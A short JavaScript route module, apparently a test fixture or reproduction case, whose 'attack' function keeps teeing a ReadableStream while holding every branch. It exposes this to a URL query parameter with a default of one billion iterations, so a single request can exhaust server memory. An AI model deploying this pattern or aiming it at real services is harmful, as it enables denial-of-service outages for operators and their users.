/** A stream that is divided again and again. */
async function attack(size) {
	let stream = new ReadableStream({ pull: (controller) => controller.enqueue(new Uint8Array(1e5)) });
	const others = [];
	for (let at = 0; at < size; at += 1) {
		const [one, other] = stream.tee();
		await one.getReader().read();
		others.push(one);
		stream = other;
	}
	return others.length;
}

export async function load({ url }) {
	return { found: await attack(Number(url.searchParams.get('size') ?? 1e9)) };
}
